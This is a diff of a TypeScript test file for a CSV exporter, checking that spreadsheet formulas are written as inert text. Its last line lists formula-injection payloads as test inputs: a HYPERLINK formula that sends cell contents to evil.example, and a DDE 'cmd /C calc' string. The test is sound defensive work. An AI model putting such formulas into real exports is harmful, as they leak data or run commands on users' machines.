@@ -1,7 +1,6 @@
 import t from 'tap';
 import { createDb } from '@hub/runtime';
-import { ENTRY_COLUMNS, parseCsv } from '../src/index.js';
-import { csvField } from '../src/csv.js';
+import { csvRecord, ENTRY_COLUMNS, parseCsv } from '../src/index.js';
 import { auditRows, setup, type AdminSetup } from './setup.js';
 
 const iso = (ms: number) => new Date(Number(ms)).toISOString();
@@ -157,10 +156,9 @@ t.test('CSV cells that a spreadsheet would run as formulas are written as text',
     ['a=1', 'a=1'],
     ['', ''],
   ] as const) {
-    t.equal(csvField(value), cell, JSON.stringify(value));
+    t.equal(csvRecord([value]), `${cell}\r\n`, JSON.stringify(value));
   }
-  t.equal(csvField(-1), '-1', 'numbers are not text');
-  t.equal(csvField(null), '');
+  t.equal(csvRecord([-1, null, 'a\nb', 'x,y']), '-1,,"a\nb","x,y"\r\n', 'numbers are not text; null is empty; CR, LF and commas are quoted');
 
   const s = await setup(t);
   for (const reason of ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0']) {
